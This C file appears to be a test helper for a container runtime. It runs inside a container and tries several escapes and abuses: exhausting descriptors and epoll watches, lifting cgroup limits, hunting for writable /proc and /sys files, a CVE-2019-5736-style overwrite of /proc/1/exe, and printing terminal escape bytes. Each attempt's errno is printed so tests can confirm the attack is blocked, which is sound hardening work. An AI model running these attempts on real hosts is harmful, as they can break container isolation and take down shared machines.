/*
 * attack watches | files | lift | write | rewrite | maps | say | own: tries one thing that would
 * harm the machine or other containers, or, with "own", uses what is its own. Facts are printed a
 * line each. "try NAME NUMBER" is how an attempt went: its errno, 0 for success. After the last
 * fact it prints "end"; who holds something holds it then until it is killed. attack log NAME,
 * outside containers: a log as PID 1 gives it, before nsctl makes it plain.
 */
#include "base/book.h"
#include "base/ring.c"

#include <errno.h>
#include <fcntl.h>
#include <ftw.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/eventfd.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

/* As many of each as the limit of descriptors, 4096, and some of them for this program allow. */
#define SETS        15
#define PER_SET     4000
#define HOLDERS     6
#define DESCRIPTORS 4096

static void print_try(const char *name, long result)
{
	printf("try %s %d\n", name, result < 0 ? errno : 0);
}

/* The tests start these when they look, one after the other. */
static void wait_for_signal(void)
{
	sigset_t signals;
	int number;

	sigemptyset(&signals);
	sigaddset(&signals, SIGUSR1);
	sigprocmask(SIG_BLOCK, &signals, NULL);
	printf("ready\n");
	sigwait(&signals, &number);
}

static void allow_descriptors(void)
{
	const struct rlimit most = { DESCRIPTORS, DESCRIPTORS };

	if (setrlimit(RLIMIT_NOFILE, &most) < 0)
		printf("setrlimit: %d\n", errno);
}

static _Noreturn void end_and_hold(void)
{
	printf("end\n");
	for (;;)
		pause();
}

/* Every pair of a set and a descriptor is a watch, be it of one file. */
static int add_watches(int *held)
{
	int sets[SETS];
	int event = eventfd(0, 0);

	for (int i = 0; i < SETS; i++)
		sets[i] = epoll_create1(0);
	for (int n = 0; n < PER_SET; n++) {
		int fd = dup(event);

		for (int i = 0; i < SETS; i++, ++*held) {
			struct epoll_event wanted = { .events = EPOLLIN };

			if (fd < 0 || epoll_ctl(sets[i], EPOLL_CTL_ADD, fd, &wanted) < 0)
				return errno;
		}
	}
	return 0;
}

static _Noreturn void take_watches(void)
{
	int held = 0;
	int error;

	wait_for_signal();
	allow_descriptors();
	error = add_watches(&held);
	printf("held %d of %d, %d\n", held, SETS * PER_SET, error);
	end_and_hold();
}

static _Noreturn void take_files(void)
{
	int ends[2];
	int sum = 0;

	wait_for_signal();
	allow_descriptors();
	if (pipe(ends) < 0)
		exit(1);
	for (int i = 0; i < HOLDERS; i++) {
		int count[2] = { 0, 0 };

		if (fork() != 0)
			continue;
		while (open("/dev/null", O_RDONLY) >= 0)
			count[0]++;
		count[1] = errno;
		if (write(ends[1], count, sizeof count) < 0)
			exit(1);
		for (;;)
			pause();
	}
	for (int i = 0; i < HOLDERS; i++) {
		int count[2];

		if (read(ends[0], count, sizeof count) != sizeof count)
			exit(1);
		printf("stopped %d\n", count[1]);
		sum += count[0];
	}
	printf("held %d\n", sum);
	end_and_hold();
}

static void write_word(const char *path, const char *word)
{
	int fd = open(path, O_WRONLY);

	print_try(path, fd < 0 ? -1 : write(fd, word, strlen(word)));
	if (fd >= 0)
		close(fd);
}

/* The limits of a group stand in the group itself: it is no longer the namespace's root then. */
static void lift_v2(void)
{
	print_try("mount-cgroup2", mount("none", "/tmp", "cgroup2", 0, NULL));
	mkdir("/tmp/below", 0755);
	write_word("/tmp/below/cgroup.procs", "0");
	print_try("unshare-cgroup", unshare(CLONE_NEWCGROUP));
	write_word("/tmp/memory.max", "max");
	write_word("/tmp/pids.max", "max");
	write_word("/tmp/cpu.max", "max");
	umount2("/tmp", MNT_DETACH);
}

static void lift_v1(const char *controller, const char *path, const char *word)
{
	print_try("mount-cgroup", mount("none", "/tmp", "cgroup", 0, controller));
	/* The limit with swap lies above that of memory alone. */
	if (strcmp(controller, "memory") == 0)
		write_word("/tmp/memory.memsw.limit_in_bytes", word);
	write_word(path, word);
	umount2("/tmp", MNT_DETACH);
}

static _Noreturn void lift(void)
{
	print_try("unshare-user", unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP));
	lift_v2();
	lift_v1("memory", "/tmp/memory.limit_in_bytes", "-1");
	lift_v1("pids", "/tmp/pids.max", "max");
	lift_v1("cpu", "/tmp/cpu.cfs_quota_us", "-1");
	end_and_hold();
}

static int print_writable(const char *path, const struct stat *status, int type, struct FTW *ftw)
{
	(void)ftw;
	/* Its own processes are its own. */
	if (strncmp(path, "/proc/", 6) == 0 &&
		(strspn(path + 6, "0123456789") > 0 || strncmp(path + 6, "self", 4) == 0 ||
			strncmp(path + 6, "thread-self", 11) == 0))
		return 0;
	if (type == FTW_F && S_ISREG(status->st_mode)) {
		int fd = open(path, O_WRONLY | O_NONBLOCK);

		if (fd >= 0) {
			printf("writable %s\n", path);
			close(fd);
		}
	}
	return 0;
}

/* The descriptor that every service has, the appliance's files of a kernel, and the rest by walk.
 */
static void write_all(void)
{
	static const char *const paths[] = { "/proc/pressure/cpu", "/proc/pressure/io",
		"/proc/pressure/memory", "/proc/dynamic_debug/control",
		"/proc/sys/kernel/core_pattern", "/proc/sys/vm/drop_caches",
		"/proc/sys/fs/file-max" };
	struct stat status;
	char byte;

	if (fstat(0, &status) == 0)
		printf("input %s %u:%u\n", S_ISCHR(status.st_mode) ? "device" : "file",
			major(status.st_rdev), minor(status.st_rdev));
	print_try("chmod-input", fchmod(0, 0400));
	print_try("chown-input", fchown(0, 0, 0));
	printf("input reads %zd\n", read(0, &byte, 1));
	printf("input takes %zd\n", write(0, "word", 4));
	for (size_t i = 0; i < sizeof paths / sizeof paths[0]; i++)
		print_try(paths[i], open(paths[i], O_WRONLY));
	nftw("/proc", print_writable, 16, FTW_PHYS);
	nftw("/sys", print_writable, 16, FTW_PHYS);
}

/* The program that runs as PID 1, by a process of its own that executes it (CVE-2019-5736). */
static void rewrite(void)
{
	char path[32];
	int fd;

	if (fork() == 0) {
		execl("/proc/1/exe", "nsinit", (char *)NULL);
		_exit(127);
	}
	fd = open("/proc/1/exe", O_RDONLY);
	print_try("open-exe", fd);
	snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
	print_try("write-exe", open("/proc/1/exe", O_WRONLY));
	for (int i = 0; i < 3; i++) {
		print_try("reopen-exe", open(path, O_WRONLY));
		print_try("empty-exe", truncate(path, 0));
		print_try("chmod-exe", chmod(path, 0777));
		if (i == 0)
			while (wait(NULL) > 0)
				;
	}
}

/* What the container's init has in memory. */
static void print_maps(void)
{
	char line[256];
	FILE *maps = fopen("/proc/1/maps", "r");

	print_try("open-maps", maps ? 0 : -1);
	while (maps && fgets(line, sizeof line, maps))
		printf("map %s", line);
	printf("\n");
}

/* In bytes, since a terminal acts on bytes. */
static void say(void)
{
	printf("esc \x1b[31m red\n");
	printf("byte \x9b"
	       "31m red\n");
	printf("letter \xc2\x9b"
	       "31m red\n");
	printf("after \xc2\xc2\x9b"
	       "31m red\n");
	printf("delete \x7f and bell \x07\n");
	printf("kept \xc3\xbc \xe2\x80\x99 \xc3\x9b \xc2\xa0 \xf0\x9f\x98\x80\tend\n");
}

static void use_own(void)
{
	struct stat status;

	if (stat("/tmp", &status) == 0)
		printf("tmp %u:%u %04o\n", status.st_uid, status.st_gid,
			(unsigned)status.st_mode & 07777);
	print_try("make", open("/tmp/made", O_CREAT | O_WRONLY, 0600));
	print_try("remove", unlink("/tmp/made"));
}

/* The records of a ring, from its beginning. */
static int print_ring(const struct book *book, const char *name)
{
	char bytes[4096];
	size_t position = 0;
	size_t count;

	for (unsigned i = 0; i < book->count; i++) {
		if (strcmp(book->sources[i].name, name) != 0)
			continue;
		while ((count = ring_read(&book->sources[i].ring, &position, bytes, sizeof bytes)) >
			0)
			fwrite(bytes, 1, count, stdout);
		return 0;
	}
	return 1;
}

static int print_log(const char *name)
{
	struct sockaddr_un address = { .sun_family = AF_UNIX, .sun_path = CONTROL_PATH };
	struct control_request request = { .version = CONTROL_VERSION, .verb = VERB_LOGS };
	struct reply_head head;
	struct iovec part = { &head, sizeof head };
	char rights[CMSG_SPACE(sizeof(int))];
	struct msghdr message = { .msg_iov = &part,
		.msg_iovlen = 1,
		.msg_control = rights,
		.msg_controllen = sizeof rights };
	struct stat status;
	void *book;
	int memory;
	int fd = socket(AF_UNIX, SOCK_SEQPACKET, 0);

	if (connect(fd, (void *)&address, sizeof address) < 0 ||
		send(fd, &request, sizeof request, 0) != sizeof request ||
		recvmsg(fd, &message, 0) != sizeof head || head.kind != REPLY_LOGS)
		return 1;
	memcpy(&memory, CMSG_DATA(CMSG_FIRSTHDR(&message)), sizeof memory);
	fstat(memory, &status);
	book = mmap(NULL, (size_t)status.st_size, PROT_READ, MAP_SHARED, memory, 0);
	return book == MAP_FAILED ? 1 : print_ring(book, name);
}

int main(int argc, char **argv)
{
	static const struct {
		const char *name;
		void (*run)(void);
	} attacks[] = { { "watches", take_watches }, { "files", take_files }, { "lift", lift },
		{ "write", write_all }, { "rewrite", rewrite }, { "maps", print_maps },
		{ "say", say }, { "own", use_own } };

	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc > 2 && strcmp(argv[1], "log") == 0)
		return print_log(argv[2]);
	for (size_t i = 0; i < sizeof attacks / sizeof attacks[0]; i++)
		if (argc > 1 && strcmp(argv[1], attacks[i].name) == 0) {
			attacks[i].run();
			printf("end\n");
			return 0;
		}
	return 2;
}
